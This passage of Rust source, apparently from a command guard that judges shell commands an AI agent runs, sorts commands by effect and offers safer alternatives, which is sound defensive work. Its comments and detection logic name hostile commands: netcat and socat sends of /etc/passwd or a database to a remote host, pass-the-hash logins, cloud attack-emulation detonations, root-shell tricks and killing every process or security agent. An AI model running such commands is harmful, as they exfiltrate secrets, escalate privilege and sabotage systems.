//! The rules on effects: one decision per effect kind, whatever program had it. The rule ids
//! keep the guard's categories (`git.*`, `privilege.*`, `network.*`, `persistence.*`, ...), so
//! policies and reports read them like any other rule's.

use std::path::Path;

use super::option_names::{self, Purpose};
use super::place::{check_place, place_of, CheckPlace, Place};
use super::settings;
use super::spec::{is_flag, Does};
use super::table::{BROAD_PROCESS_NAMES, PROGRAMS, QUIET, UPKEEP};
use crate::guard::needles::Needles;
use crate::guard::rules::{block, violation, warn};
use crate::guard::verdict::{Category, Recommendation, Risk, Violation};
use crate::guard::{GuardContext, Pipeline, SimpleCommand};

pub const DISCARD_WORKTREE: &str = "git.checkout_all";
pub const DELETE_REFS: &str = "git.ref_delete";
pub const DROP_STASH: &str = "git.stash_drop";
pub const DESTROY_REFLOG: &str = "git.reflog_destroy";
pub const PRUNE: &str = "git.prune";
pub const ESCAPE: &str = "privilege.escape";
pub const KERNEL: &str = "privilege.kernel";
pub const PASSWORDLESS: &str = "privilege.passwordless";
pub const SYSTEM_STATE: &str = "privilege.system_state";
const ROOT_SHELL: &str = crate::guard::rules::privilege::ROOT_SHELL;
pub const SECURITY_OFF: &str = crate::guard::rules::network::FIREWALL;
pub const TRACES_ERASED: &str = "privilege.traces_erased";
pub const OPEN_SERVICE: &str = crate::guard::rules::network::EXPOSED_BIND;
pub const VCS_HOOK: &str = "persistence.vcs_hook";
pub const SCHEDULED: &str = "persistence.scheduled";
pub const STARTUP: &str = "persistence.startup_file";
pub const USER_CONFIG: &str = "persistence.user_config";
pub const KILL_ALL: &str = "process.kill_all";
pub const UPLOAD: &str = "exfiltration.upload";
pub const BULK_DELETE: &str = "deletion.bulk";
pub const DEPENDENCY_DIR: &str = "deletion.dependency_dir";
pub const WIPE: &str = "disk.wipe";
pub const USER_FILES: &str = "deletion.user_files";
pub const LIBRARY_LOAD: &str = "privilege.library_load";
pub const DISGUISED_SHELL: &str = "privilege.disguised_shell";
pub const MACHINE_POWER: &str = "process.machine_power";
pub const BOOT: &str = "privilege.boot";
pub const SECURITY_POLICY: &str = "privilege.security_policy";
pub const CREDENTIAL_HUNT: &str = "secrets.credential_hunt";
const CREDENTIAL_FILE: &str = crate::guard::rules::secrets::CREDENTIAL_FILE;
pub const NETWORK_CONFIG: &str = "network.config";
pub const MANAGED_DELETE: &str = crate::guard::rules::deletion::MANAGED_RESOURCE;
pub const ATTACK_TOOL: &str = "network.attack_tool";
pub const RECONNAISSANCE: &str = "network.reconnaissance";
pub const INPUT_CAPTURE: &str = "secrets.input_capture";
pub const PROCESS_MEMORY: &str = "secrets.process_memory";
pub const ROOT_FROM_TEMP: &str = "privilege.root_from_temp";
const INFRASTRUCTURE: &str = crate::guard::rules::deletion::INFRASTRUCTURE;

/// The safer alternative for an effect rule, or None for ids this module does not own.
pub fn alternative(rule: &str) -> Option<&'static str> {
    Some(match rule {
        DELETE_REFS => "git branch -d (refuses to delete unmerged work), or keep the branch",
        DROP_STASH => "git stash list and git stash show -p first; apply the stash you need (git stash apply)",
        DESTROY_REFLOG | PRUNE => "leave the reflog and unreachable objects to git gc's defaults",
        ESCAPE => {
            "run the container without --privileged, host namespaces or host mounts; mount only workspace folders"
        }
        KERNEL => "leave kernel settings alone; configure the program instead",
        DISGUISED_SHELL => "run the program the task needs by its own name; leave the system's shells where they are",
        PASSWORDLESS => "keep the password; use a key or a scoped sudo rule the user sets up",
        SYSTEM_STATE => "keep the program's input and output inside the workspace",
        SECURITY_OFF => "open the single port the task needs, for loopback only, and leave the protection on",
        TRACES_ERASED => "leave the shell history and the system logs as they are: they are the record of what ran",
        OPEN_SERVICE => "bind the service to 127.0.0.1 and keep its authentication on",
        VCS_HOOK => "run the check yourself (e.g. the test command) instead of installing a hook",
        SCHEDULED => "run the job once now, in the workspace, instead of scheduling it",
        STARTUP => "set the variable for this command only (VAR=value cmd) instead of in a startup file",
        USER_CONFIG => "pass the setting on this command's line, or keep a configuration file in the workspace",
        KILL_ALL => "kill the one process you started, by its pid or a specific pattern (pkill -f 'node server.js')",
        UPLOAD => "keep the workspace and the user's files on this machine; report what you would send",
        BULK_DELETE => "list what would be deleted first (find . -name '*.tmp' -print), then delete those paths",
        DEPENDENCY_DIR => {
            "keep installed dependencies; let the package manager fix them (npm ci, pip install -r requirements.txt)"
        }
        INPUT_CAPTURE => "leave other people's keystrokes, traffic and screens alone; debug with the task's own logs",
        PROCESS_MEMORY => "debug the process the task started, by its own logs or a debugger on its own pid",
        ROOT_FROM_TEMP => "build or copy the program into the workspace, read it, and run it there without sudo",
        _ => return None,
    })
}

/// The spec of the program called `name`, through an index built on first use (a few hundred
/// names; the hook process builds it only when a command reaches the effect rules).
fn spec_for(name: &str) -> Option<&'static super::spec::Program> {
    static INDEX: std::sync::LazyLock<std::collections::HashMap<&'static str, &'static super::spec::Program>> =
        std::sync::LazyLock::new(|| {
            let mut index = std::collections::HashMap::new();
            for program in PROGRAMS {
                for name in program.names {
                    // The first spec naming a program is its spec.
                    index.entry(*name).or_insert(program);
                }
            }
            index
        });
    INDEX.get(name).copied()
}

fn is_quiet(name: &str) -> bool {
    static INDEX: std::sync::LazyLock<std::collections::HashSet<&'static str>> =
        std::sync::LazyLock::new(|| QUIET.iter().copied().collect());
    INDEX.contains(name) || name.starts_with("python")
}

/// The effect rules for command `i` of `pipeline`.
pub fn command(pipeline: &Pipeline, i: usize, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    let cmd = &pipeline[i];
    let name = cmd.name();
    if name.is_empty() {
        return;
    }
    let start = out.len();
    command_effects(pipeline, i, ctx, out);
    // `pytest | tee test-results/log.txt`: what a test run prints, saved where reports go, is
    // the run's own report.
    if i > 0
        && pipeline[..i]
            .iter()
            .any(|c| crate::guard::rules::test_tampering::runs_tests(&c.argv))
    {
        let mut index = 0;
        out.retain(|v| {
            let keep = index < start || v.rule != crate::guard::rules::test_tampering::FORGED_RESULT;
            index += 1;
            keep
        });
    }
}

/// [`command`]'s effects, before the reports a test run pipes along are told apart.
fn command_effects(pipeline: &Pipeline, i: usize, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    let cmd = &pipeline[i];
    let name = cmd.name();
    let cwd = cmd.cwd.as_deref();
    let at = |p: &str| place_of(p, cwd, ctx.workspace);
    // Writes by redirection, whatever the program; `dd of=PATH`.
    for target in &cmd.redirects {
        written(cmd, target, at(target), out);
    }
    if name == "dd" {
        for target in cmd.argv.iter().filter_map(|a| a.strip_prefix("of=")) {
            written(cmd, target, at(target), out);
        }
    }
    security_settings(pipeline, i, out);
    super::payload::planted(pipeline, i, ctx, out);
    if let Some(dir) = extracted_into(cmd) {
        written(cmd, dir, at(dir), out);
    }
    let args = &cmd.argv[1..];
    // `--dry-run` shows what would happen; nothing does.
    let dry = shown_not_done(&cmd.argv);
    // Whether a spec clause said what this command does: then the words need not guess.
    let mut described = false;
    let asked = asks_or_previews(&cmd.argv);
    match spec_for(name).filter(|_| !dry && !asked) {
        Some(spec) => {
            let signalled = signal_words(name, args);
            let found = spec.effects(signalled.as_deref().unwrap_or(args));
            described = !found.is_empty();
            let exposed = found.iter().any(|(c, _)| c.does == Does::ExposedService);
            let auth_off = found.iter().any(|(c, _)| c.does == Does::AuthOff);
            if exposed && !auth_off {
                out.push(warn(
                    Category::Network,
                    OPEN_SERVICE,
                    cmd,
                    "listens on every interface: anyone who reaches this machine reaches the service",
                ));
            }
            if exposed && auth_off {
                out.push(block(
                    Category::Network,
                    OPEN_SERVICE,
                    Risk::Critical,
                    cmd,
                    "starts a service on every interface with its authentication off: anyone who reaches the port controls it",
                ));
            }
            let covered: Vec<&str> = found
                .iter()
                .flat_map(|(_, operands)| operands.iter().copied())
                .collect();
            for (clause, operands) in found {
                if clause.does == Does::ReadSecret && secret_consumed(pipeline, i) {
                    continue;
                }
                does(cmd, clause.does, &operands, ctx, out);
            }
            // A spec says what its clauses say; a use none of them describes is looked at
            // like a program without one, unless the spec describes every effect it has.
            if !described && !is_quiet(name) && !super::table::FULLY_DESCRIBED.contains(&name) {
                unknown_program(cmd, ctx, out);
            } else if described && !is_quiet(name) {
                // Described, it may still be handed a place the system runs commands from in
                // an option no clause reads (`screen -L /etc/ld.so.preload`: a log file).
                undescribed_persistence(cmd, &covered, ctx, out);
            }
        }
        None => {
            if name == "find" {
                find_delete(cmd, ctx, out);
            }
            if name == "rm" || name == "rmdir" {
                dependency_dirs(cmd, ctx, out);
            }
            // A carrier's words are the command it runs (`parallel rm -rf ::: /tmp/a`), which
            // is judged on its own.
            if !is_quiet(name) && !crate::guard::carriers::hands_on_words(&cmd.argv) {
                unknown_program(cmd, ctx, out);
                unknown_wrapper(pipeline, i, ctx, out);
                handed_command_lines(cmd, ctx, out);
            }
        }
    }
    if cmd.as_root || cmd.other_account {
        // Fed on stdin, a program reads its commands from there, not from a person; the
        // terminal itself (`< /dev/tty`) is the person.
        let terminal = |f: &String| {
            f.starts_with("/dev/tty")
                || f.starts_with("/dev/pts/")
                || f.starts_with("/dev/console")
                || matches!(f.as_str(), "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0")
        };
        let fed = i > 0 || cmd.stdin_text.is_some() || cmd.inputs.iter().any(|f| !terminal(f));
        // What an `echo`/`printf` pipes in is read like a here-string (`echo '!/bin/sh' | sudo x`).
        let piped = (i > 0)
            .then(|| crate::guard::carriers::stdin_as_written(pipeline, i))
            .flatten();
        root_shell(cmd, fed, piped.as_deref(), out);
    }
    if cmd.as_root {
        root_reboot(cmd, out);
    }
    handed_secret_holder(cmd, out);
    if name == "kill" {
        kill_by_lookup(cmd, out);
        kill_fed_by_lookup(pipeline, i, out);
    }
    if !dry && !described && !crate::guard::carriers::hands_on_words(&cmd.argv) {
        managed_delete(cmd, out);
    }
    super::packages::check(cmd, out);
    // `find ~ -type f | xargs gpg -c`: the files come from a listing of a folder.
    let listed = (cmd.args_from_stdin || names_from_stdin(cmd))
        .then(|| lister_upstream(pipeline, i).and_then(listed_folder))
        .flatten();
    super::encryption::check(cmd, listed, ctx, out);
    credential_hunt(cmd, ctx, out);
    others_secrets(cmd, out);
    instance_metadata(cmd, out);
    run_from_temp(cmd, ctx, out);
    agent_stopped(cmd, out);
    pod_escape(cmd, out);
    if name == "find" {
        find_over_logs(cmd, ctx, out);
    }
    if name == "touch" {
        timestomp(cmd, ctx, out);
    }
    embedded_paths(cmd, ctx, out);
    output_options(cmd, ctx, out);
    library_loads(cmd, ctx, out);
    // `~/.netrc /dev/null` left as the command after a tracer's options: reading it is the point.
    if crate::guard::rules::secrets::is_credential_path(&cmd.argv[0]) {
        out.push(block(
            Category::Secrets,
            CREDENTIAL_FILE,
            Risk::High,
            cmd,
            "hands a credential file to a program as the thing to run or trace",
        ));
    }
    inline_reverse_shell(cmd, out);
    inline_code(cmd, out);
    inline_setuid(cmd, out);
    inline_server(cmd, out);
    edited(cmd, ctx, out);
    keystrokes(cmd, ctx, out);
    privileged_shell(cmd, out);
    disguised_shell(cmd, out);
    // `evil-winrm -H 4e73..`, `nxc smb HOST -u x -H HASH`, `psexec.py -hashes LM:NT`: logs in
    // with a stolen password hash.
    let hash = |v: &str| {
        let v = v.rsplit(':').next().unwrap_or(v);
        v.len() == 32 && v.chars().all(|c| c.is_ascii_hexdigit())
    };
    let pass_the_hash = cmd.argv.windows(2).any(|w| {
        matches!(
            w[0].as_str(),
            "-H" | "--hash" | "-hashes" | "--hashes" | "--nthash" | "-nthash"
        ) && hash(&w[1])
    });
    if dumps_credentials(cmd) {
        out.push(block(
            Category::Secrets,
            CREDENTIAL_HUNT,
            Risk::Critical,
            cmd,
            "runs a credential dumper: the passwords and hashes this machine or another holds",
        ));
    } else if let Some(step) = emulated_attack(cmd) {
        match step {
            AttackStep::Detonate => out.push(block(
                Category::Network,
                ATTACK_TOOL,
                Risk::Critical,
                cmd,
                "detonates an attack technique for real (adversary emulation) against the account or host it reaches",
            )),
            AttackStep::Prepare => out.push(warn(
                Category::Network,
                ATTACK_TOOL,
                cmd,
                "builds the infrastructure an emulated attack will be run against",
            )),
        }
    } else if ATTACK_TOOLS.contains(&name) && pass_the_hash {
        out.push(block(
            Category::Secrets,
            ATTACK_TOOL,
            Risk::Critical,
            cmd,
            "logs in to another host with a password hash (pass-the-hash)",
        ));
    } else if ATTACK_TOOLS.contains(&name) {
        out.push(warn(
            Category::Network,
            ATTACK_TOOL,
            cmd,
            "runs an attack tool (scanning, brute force, spoofing or exploitation) against other hosts",
        ));
    } else if let Some(what) = reconnaissance(cmd) {
        out.push(warn(Category::Network, RECONNAISSANCE, cmd, what));
    }
    if speaks_to_container_daemon(cmd) {
        out.push(block(
            Category::Privilege,
            ESCAPE,
            Risk::Critical,
            cmd,
            "talks to the container daemon's socket: whoever does can start a privileged container with the host's root mounted",
        ));
    }
    if cmd.args_from_stdin && destroys_each_fed_file(cmd) {
        if let Some(lister) = lister_upstream(pipeline, i) {
            listing_fed_delete(lister, cmd, ctx, out);
        }
    }
    if reads_stdin_to_network(cmd) {
        if i > 0 {
            piped_upload(&pipeline[..i], cmd, ctx, out);
        }
        // `nc HOST 4444 < /etc/passwd`, `socat - TCP:HOST:80 < db.sqlite3`: the file fed in is
        // what is sent.
        let dest = sent_to(cmd);
        if !cmd.inputs.is_empty() && !sends_only_to_loopback(cmd) {
            judge_upload(cmd, cmd.inputs.iter().map(String::as_str), false, &dest, ctx, out);
        }
    }
    let socat_files = socat_file_sources(cmd);
    if !socat_files.is_empty() {
        let dest = sent_to(cmd);
        judge_upload(cmd, socat_files.into_iter(), false, &dest, ctx, out);
    }
    http_upload(cmd, ctx, out);
}

/// Whether a command only shows what it would do: `--dry-run` (or `--dry-run=client|server|
/// true`), `--dryrun`, `--what-if`, `--simulate`, `--generate-cli-skeleton`, a program's own
/// dry-run letter (`git push -n`, `rsync -n`, `make -n`), and systemctl's power verbs with
/// `--when cancel` (questions and help pages are [`asks_or_previews`]). Only options before a
/// `--` count (after it they are operands the program may ignore), and `--dry-run=false`/`none`
/// is not a dry run. The one place that decides it, for the effect rules and the
/// infrastructure rule alike.
pub fn shown_not_done(argv: &[String]) -> bool {
    let own: &[String] = match argv.iter().position(|a| a == "--") {
        Some(end) => &argv[..end],
        None => argv,
    };
    let args = own.get(1..).unwrap_or_default();
    let dry = args.iter().any(|a| {
        matches!(
            a.as_str(),
            "--dry-run" | "--dryrun" | "--what-if" | "--simulate" | "--generate-cli-skeleton"
        ) || a
            .strip_prefix("--dry-run=")
            .is_some_and(|v| matches!(v, "client" | "server" | "true" | "all"))
    });
    let power = matches!(
        own.first().map(|w| crate::guard::basename(w)),
        Some("systemctl" | "loginctl")
    ) && args.iter().any(|a| {
        matches!(
            a.as_str(),
            "halt" | "poweroff" | "reboot" | "soft-reboot" | "kexec" | "suspend" | "hibernate" | "hybrid-sleep"
        )
    });
    let cancel =
        args.iter().any(|a| a == "--when=cancel") || args.windows(2).any(|w| w[0] == "--when" && w[1] == "cancel");
    dry || (power && cancel) || dry_letter(own)
}

/// Programs (with their subcommand) whose short dry-run letter, alone or bundled (`git push
/// -nf`, `rsync -avn`), only shows what they would do.
const DRY_LETTERS: &[(&str, &str, char)] = &[
    ("git", "push", 'n'),
    ("git", "clean", 'n'),
    ("git", "rm", 'n'),
    ("git", "mv", 'n'),
    ("git", "add", 'n'),
    ("rsync", "", 'n'),
    ("make", "", 'n'),
    ("gmake", "", 'n'),
    ("apt-get", "", 's'),
];

/// `git push -n -f`, `rsync -avn --delete`: the program's dry-run letter (see [`DRY_LETTERS`]).
fn dry_letter(argv: &[String]) -> bool {
    let Some(name) = argv.first().map(|w| crate::guard::basename(w)) else {
        return false;
    };
    let sub = || {
        let mut words = argv[1..].iter();
        while let Some(w) = words.next() {
            if matches!(w.as_str(), "-C" | "-c" | "--git-dir" | "--work-tree") {
                words.next();
            } else if !w.starts_with('-') {
                return w.as_str();
            }
        }
        ""
    };
    DRY_LETTERS
        .iter()
        .filter(|(program, _, _)| *program == name)
        .any(|(_, subcommand, letter)| {
            (subcommand.is_empty() || *subcommand == sub())
                && argv[1..]
                    .iter()
                    .any(|a| crate::guard::options::bundle(a, |_| false).is_some_and(|b| b.flags.contains(*letter)))
        })
}

/// Signal names, as `kill -NAME` takes them (without `SIG`).
const SIGNALS: &[&str] = &[
    "HUP", "INT", "QUIT", "ILL", "TRAP", "ABRT", "IOT", "BUS", "FPE", "KILL", "USR1", "SEGV", "USR2", "PIPE", "ALRM",
    "TERM", "STKFLT", "CHLD", "CONT", "STOP", "TSTP", "TTIN", "TTOU", "URG", "XCPU", "XFSZ", "VTALRM", "PROF", "WINCH",
    "IO", "POLL", "PWR", "SYS",
];

/// `pkill -USR1 -x dd`: for the programs that take a signal as `-NAME` or `-NUMBER`, that word
/// is the signal (`--signal=USR1`), not a bundle of letters (`-U SR1` would be a user). None
/// for other programs, or when no word is a signal.
fn signal_words(name: &str, args: &[String]) -> Option<Vec<String>> {
    if !matches!(name, "kill" | "pkill" | "killall" | "pgrep") {
        return None;
    }
    fn signal(a: &str) -> Option<&str> {
        let s = a.strip_prefix('-')?;
        let bare = s.strip_prefix("SIG").unwrap_or(s);
        (SIGNALS.contains(&bare) || (!bare.is_empty() && bare.bytes().all(|b| b.is_ascii_digit()))).then_some(bare)
    }
    if !args.iter().any(|a| signal(a).is_some()) {
        return None;
    }
    Some(
        args.iter()
            .map(|a| signal(a).map_or_else(|| a.clone(), |s| format!("--signal={s}")))
            .collect(),
    )
}

/// Whether a subcommand CLI is asked about a change rather than told to make it: a help page
/// (`kubectl delete --help`, `gcloud help projects delete`, aws's trailing `help`), a permission
/// check (`kubectl auth can-i delete ns`), a diff (`helm diff upgrade`, `kubectl diff`), a
/// rollout's status or history. The words must be the leading subcommand words (an option's
/// value skipped): `kubectl delete ns diff` deletes a namespace named `diff`. Only for a CLI
/// whose first word is a subcommand: `rm -rf x --help` is rm's, a script's `--help` its own.
pub fn asks_or_previews(argv: &[String]) -> bool {
    let Some((program, args)) = argv.split_first() else {
        return false;
    };
    // The subcommand words: operands, with the word after a bare option taken as its value.
    let mut words = Vec::new();
    let mut after_option = false;
    for a in args {
        if a.starts_with('-') {
            after_option = !a.contains('=');
        } else if std::mem::take(&mut after_option) && words.is_empty() {
            continue;
        } else {
            words.push(a.as_str());
        }
    }
    let subcommand = words
        .first()
        .is_some_and(|w| w.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == ':'));
    subcommand
        && (args.iter().any(|a| a == "--help")
            || words.first() == Some(&"help")
            || (crate::guard::basename(program) == "aws" && words.last() == Some(&"help"))
            || matches!(
                words.as_slice(),
                ["diff", ..] | ["auth", "can-i", ..] | ["rollout", "status" | "history", ..]
            ))
}

/// Whether what command `i` prints is taken by the program that needs it: captured by a
/// substitution (`TOKEN=$(pass show x)`) or piped into a command that is not a mere filter on
/// the way to the screen (`op read X | docker login --password-stdin`).
fn secret_consumed(pipeline: &Pipeline, i: usize) -> bool {
    use crate::guard::rules::secrets::TO_SCREEN;
    pipeline[i].captured || pipeline[i + 1..].iter().any(|c| !TO_SCREEN.contains(&c.name()))
}

/// `kill $(pidof NAME)`, `kill -9 $(pgrep -f NAME)`: a kill by name spelled through a lookup;
/// judged like `pkill NAME`, with the signal `kill` sends, over every lookup it is handed.
fn kill_by_lookup(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let mut lookups = Vec::new();
    let mut names = Vec::new();
    for a in &cmd.argv[1..] {
        let inner = a
            .trim_start_matches("$(")
            .trim_start_matches('`')
            .trim_end_matches(')')
            .trim_end_matches('`');
        if inner.len() == a.len() {
            continue;
        }
        let words: Vec<&str> = inner.split_whitespace().collect();
        // `kill -9 $(ps -eo pid=)`: every process the listing names.
        let stages: Vec<Vec<&str>> = inner.split('|').map(|s| s.split_whitespace().collect()).collect();
        if every_process_listed(&stages) && !harmless_signal(&cmd.argv) {
            out.push(block(
                Category::Process,
                KILL_ALL,
                Risk::Critical,
                cmd,
                "kills every process a listing of all of them names: the machine's and every user's",
            ));
            return;
        }
        if !matches!(words.first().copied(), Some("pidof" | "pgrep")) {
            continue;
        }
        lookups.push(inner);
        names.extend(words[1..].iter().copied().filter(|w| !w.starts_with('-')));
    }
    if lookups.is_empty() || harmless_signal(&cmd.argv) {
        return;
    }
    let found = lookups.join("`, `");
    if names.iter().any(|n| super::table::names_agent(n)) {
        out.push(block(
            Category::Network,
            SECURITY_OFF,
            Risk::High,
            cmd,
            format!("kills the security or monitoring agents `{found}` finds"),
        ));
        return;
    }
    let broad = names.iter().any(|n| broad_process_pattern(n));
    let what = format!("kills every process `{found}` finds by name");
    if broad {
        out.push(block(Category::Process, KILL_ALL, Risk::High, cmd, what));
    } else {
        out.push(warn(Category::Process, KILL_ALL, cmd, what));
    }
}

/// The stage whose lines reach stage `i` of `pipeline`, through filters that only sort, pick,
/// copy or cut lines (`find ~ | sort | xargs rm`, `find ~ | grep -v keep | while read f; ..`).
fn lister_upstream(pipeline: &Pipeline, i: usize) -> Option<&SimpleCommand> {
    const LINE_FILTERS: &[&str] = &[
        "sort", "uniq", "grep", "egrep", "fgrep", "rg", "head", "tail", "tee", "cat", "shuf", "tac", "cut", "tr",
        "sed", "awk", "gawk", "mawk", "paste", "pv", "nl", "fold", "sponge", "stdbuf",
    ];
    // A filter handed names of its own (`git ls-files | xargs grep -l TODO`) prints some of
    // them: it is the listing then.
    pipeline[..i].iter().rev().find(|c| {
        c.args_from_stdin
            || !LINE_FILTERS.contains(&c.name())
            || (c.name() == "rg" && c.argv.iter().any(|a| a == "--files"))
            || names_matching_files(c).is_some()
    })
}

/// `grep -rl '' ~`, `rg -l . ~`, `ag -l . ~`: the names of the files under a folder whose text
/// matches a pattern that matches any file (empty, `.`, `^`, `.*`, `$`), one per line: the
/// folder, or None for any other search.
fn names_matching_files(cmd: &SimpleCommand) -> Option<&str> {
    if !matches!(cmd.name(), "grep" | "egrep" | "rg" | "ag") {
        return None;
    }
    let args = cmd.argv.get(1..).unwrap_or_default();
    let names = args.iter().any(|a| {
        a == "--files-with-matches"
            || crate::guard::options::bundle(a, |_| false).is_some_and(|b| b.flags.contains('l'))
    });
    let operands: Vec<&str> = args
        .iter()
        .filter(|a| !a.starts_with('-'))
        .map(String::as_str)
        .collect();
    let (pattern, folder) = match operands.as_slice() {
        [pattern, .., folder] => (*pattern, *folder),
        _ => return None,
    };
    (names && matches!(pattern, "" | "." | "^" | ".*" | "$")).then_some(folder)
}

/// Whether an encryptor reads the names of its input files from stdin by its own option: `zip
/// -@`, `gpgtar -T -`, `gpg-zip --files-from -`.
fn names_from_stdin(cmd: &SimpleCommand) -> bool {
    let args = cmd.argv.get(1..).unwrap_or_default();
    match cmd.name() {
        "zip" => args
            .iter()
            .any(|a| a == "--names-stdin" || (a.starts_with('-') && !a.starts_with("--") && a.contains('@'))),
        "gpgtar" | "gpg-zip" => args.iter().enumerate().any(|(k, a)| {
            matches!(a.as_str(), "-T-" | "--files-from=-" | "--files-from=/dev/stdin")
                || (matches!(a.as_str(), "-T" | "--files-from")
                    && args.get(k + 1).is_some_and(|v| v == "-" || v == "/dev/stdin"))
        }),
        _ => false,
    }
}

/// The folder whose files a listing prints, one per line (`find ~/Documents -type f`, `fd -e pdf
/// . ~`, `ls ~/x`, `rg --files ~`): what a command fed its lines by `xargs` or a `while read`
/// loop is handed. None for anything else.
fn listed_folder(lister: &SimpleCommand) -> Option<&str> {
    let args = lister.argv.get(1..).unwrap_or_default();
    let operands = || args.iter().filter(|a| !a.starts_with('-')).map(String::as_str);
    match lister.name() {
        // find's folders come before its expression.
        "find" | "bfs" | "gfind" => Some(
            args.iter()
                .take_while(|a| !a.starts_with('-'))
                .map(String::as_str)
                .next()
                .unwrap_or("."),
        ),
        // `fd PATTERN FOLDER`.
        "fd" | "fdfind" => Some(operands().nth(1).unwrap_or(".")),
        "ls" | "dir" | "eza" | "exa" | "lsd" => Some(operands().next().unwrap_or(".")),
        "rg" if args.iter().any(|a| a == "--files") => Some(operands().next_back().unwrap_or(".")),
        "grep" | "egrep" | "rg" | "ag" => names_matching_files(lister),
        // `du -a ~` prints sizes and paths (a `cut -f2` keeps the paths); `tree -f` full paths.
        "du" if args.iter().any(|a| {
            a == "--all" || crate::guard::options::bundle(a, |_| false).is_some_and(|b| b.flags.contains('a'))
        }) =>
        {
            Some(operands().next().unwrap_or("."))
        }
        "tree"
            if args
                .iter()
                .any(|a| crate::guard::options::bundle(a, |_| false).is_some_and(|b| b.flags.contains('f'))) =>
        {
            Some(operands().next().unwrap_or("."))
        }
        _ => None,
    }
}

/// Whether the stages print every process of the machine unfiltered: a `ps` that lists all
/// of them (`-e`, `-A`, `aux`, `ax`) followed only by stages that reshape its lines (`awk
/// '{print $2}'`, `cut`, `tail -n +2`, `tr`, `sort`), none that picks some (`grep`, an awk
/// pattern, `head`).
fn every_process_listed(stages: &[Vec<&str>]) -> bool {
    let Some((first, rest)) = stages.split_first() else {
        return false;
    };
    // `-e`, `-ef`, `-eo`, `-A`, `-ax`, `aux`: a word of ps's flag letters that selects every
    // process (`-C NAME`, `-u USER`, `-p PID` select some; a value such as `--sort -etime` is
    // not a flag word).
    let flags = |letters: &str| !letters.is_empty() && letters.chars().all(|c| "aAdefFHjlLmMNTwxyo".contains(c));
    let all = first.first().is_some_and(|w| crate::guard::basename(w) == "ps")
        && first[1..].iter().enumerate().any(|(k, a)| {
            let after_value_option = k > 0
                && matches!(
                    first[k],
                    "--sort" | "-o" | "-O" | "--format" | "-C" | "-u" | "-U" | "-p" | "-g" | "-G" | "-t" | "-s"
                );
            !after_value_option
                && match a.strip_prefix('-') {
                    Some(letters) => {
                        flags(letters)
                            && (letters.contains(['e', 'A']) || (letters.contains('a') && letters.contains('x')))
                    }
                    None => {
                        let bsd = !a.is_empty() && a.chars().all(|c| "auxwefhjlrSvcm".contains(c));
                        k == 0 && bsd && a.contains('a') && a.contains('x')
                    }
                }
        });
    let reshapes = |stage: &Vec<&str>| match stage.first().map(|w| crate::guard::basename(w)) {
        // Skipping the header line (`NR>1`) picks no process.
        Some("awk" | "gawk" | "mawk") => stage[1..].iter().filter(|a| !a.starts_with('-')).all(|program| {
            let program = program.replace(' ', "").replace("NR>1", "").replace("NR!=1", "");
            !program.contains(['/', '~', '=', '<', '>']) && !program.contains("if")
        }),
        // `head -n 1000` still kills that many; `grep -v $$` spares one.
        Some("head") => true,
        Some("grep" | "egrep") => stage[1..].iter().any(|a| *a == "-v" || *a == "--invert-match"),
        Some("cut" | "tr" | "sort" | "uniq") => true,
        Some("tail") => stage[1..].iter().any(|a| a.starts_with('+')),
        Some("sed") => stage[1..].iter().all(|a| a.starts_with('-') || *a == "1d"),
        _ => false,
    };
    all && rest.iter().all(reshapes)
}

/// `pgrep -f java | xargs kill -9`, `ps aux | grep '[n]ode' | awk '{print $2}' | xargs kill`:
/// the processes a lookup by name finds, killed; judged like `pkill NAME`.
fn kill_fed_by_lookup(pipeline: &Pipeline, i: usize, out: &mut Vec<Violation>) {
    let cmd = &pipeline[i];
    if !cmd.args_from_stdin || i == 0 {
        return;
    }
    // An inverted grep (`grep -v grep`) names what is spared, not what is killed.
    let names: Vec<&str> = pipeline[..i]
        .iter()
        .filter(|c| matches!(c.name(), "pgrep" | "pidof" | "grep" | "egrep"))
        .filter(|c| !c.argv.iter().any(|a| a == "-v" || a == "--invert-match"))
        .flat_map(|c| c.argv[1..].iter().filter(|a| !a.starts_with('-')).map(String::as_str))
        .collect();
    let Some(name) = names.first() else {
        // `ps -eo pid= | xargs kill -9`, `ps aux | awk '{print $2}' | xargs kill`: no name
        // chosen, every process listed.
        let stages: Vec<Vec<&str>> = pipeline[..i]
            .iter()
            .filter(|c| !c.upstream_copy)
            .map(|c| c.argv.iter().map(String::as_str).collect())
            .collect();
        if every_process_listed(&stages) && !harmless_signal(&cmd.argv) {
            let display = SimpleCommand {
                argv: pipeline[..=i].iter().flat_map(|c| c.argv.clone()).collect(),
                ..cmd.clone()
            };
            out.push(block(
                Category::Process,
                KILL_ALL,
                Risk::Critical,
                &display,
                "kills every process a listing of all of them names: the machine's and every user's",
            ));
        }
        return;
    };
    let lookup = pipeline[..i]
        .iter()
        .any(|c| matches!(c.name(), "pgrep" | "pidof" | "ps"));
    if !lookup {
        return;
    }
    // `'[n]ode'`: the brackets keep grep from finding itself.
    let bare = |n: &str| {
        n.chars()
            .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_'))
            .collect::<String>()
            .to_ascii_lowercase()
    };
    let display = SimpleCommand {
        argv: pipeline[..=i].iter().flat_map(|c| c.argv.clone()).collect(),
        ..cmd.clone()
    };
    if names.iter().any(|n| super::table::names_agent(n)) {
        out.push(block(
            Category::Network,
            SECURITY_OFF,
            Risk::High,
            &display,
            "kills the security or monitoring agents a lookup finds",
        ));
    } else if names.iter().any(|n| BROAD_PROCESS_NAMES.contains(&bare(n).as_str())) {
        out.push(block(
            Category::Process,
            KILL_ALL,
            Risk::High,
            &display,
            format!("kills every `{name}` process a lookup finds, not only the one this task started"),
        ));
    } else {
        out.push(warn(
            Category::Process,
            KILL_ALL,
            &display,
            format!("kills every `{name}` process a lookup finds by name, whoever started it"),
        ));
    }
}

/// A step of an emulated attack.
enum AttackStep {
    /// The technique itself, run for real.
    Detonate,
    /// What it needs set up first (resources created in the target account).
    Prepare,
}

/// Adversary-emulation frameworks run real attack techniques against the cloud account or host
/// they reach (`stratus detonate aws.defense-evasion.cloudtrail-stop`, `pacu --exec
/// --module-name iam__backdoor_users_keys`): detonating is the attack; warming up creates its
/// prerequisites. Listing, showing and cleaning up do nothing to the target.
fn emulated_attack(cmd: &SimpleCommand) -> Option<AttackStep> {
    let verb = cmd.argv[1..].iter().find(|a| !a.starts_with('-')).map(String::as_str);
